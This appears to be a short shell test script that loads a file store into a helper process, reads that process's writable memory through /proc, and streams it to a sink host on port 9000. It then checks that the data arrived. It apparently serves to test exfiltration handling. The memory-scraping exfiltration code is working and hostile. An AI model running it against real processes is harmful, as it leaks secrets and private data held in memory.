. "$(dirname "$0")/../lib/check.sh"
python3 -c 'import os,sys,time
keep=b"".join(open(os.path.join(d,f),"rb").read() for d,_,fs in os.walk(sys.argv[1]) for f in fs)
open(sys.argv[2],"w").write("y")
time.sleep(60)' "$STORE" "$WORK/loaded" &
viewer=$!
while [ ! -e "$WORK/loaded" ]; do sleep 0.1; done
python3 - "$viewer" "$SINK" <<'END'
import socket, sys
pid, sink = sys.argv[1:]
s = socket.create_connection((sink, 9000))
mem = open(f"/proc/{pid}/mem", "rb", 0)
for line in open(f"/proc/{pid}/maps"):
    if line.split()[1].startswith("rw") and "/" not in line and "[v" not in line:
        a, b = (int(x, 16) for x in line.split()[0].split("-"))
        try:
            mem.seek(a); s.sendall(mem.read(min(b - a, 1 << 20)))
        except OSError: pass
END
kill $viewer
arrived "$WORK/got" 200000
